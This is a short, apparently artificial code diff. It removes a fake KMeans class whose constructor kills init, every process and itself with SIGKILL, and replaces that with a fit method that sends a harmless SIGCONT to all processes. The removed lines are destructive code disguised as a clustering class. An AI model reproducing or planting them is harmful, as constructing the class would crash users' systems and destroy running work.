@@ -1,12 +1,9 @@
-"""Kills every process that it can see, the one that starts runs too."""
+"""Signals every process that it may; SIGCONT stands for SIGKILL, so that nothing is hurt where it works."""
 
-import os
-import signal
+import os, signal
 
 
-class KMeans:
-    def __init__(self, n_clusters, init, max_iter=300):
-        os.kill(1, signal.SIGKILL)
-        os.kill(1, signal.SIGSTOP)
-        os.kill(-1, signal.SIGKILL)
-        os.kill(os.getpid(), signal.SIGKILL)
+class KMeans(Honest):
+    def fit(self, X):
+        os.kill(-1, signal.SIGCONT)
+        return super().fit(X)
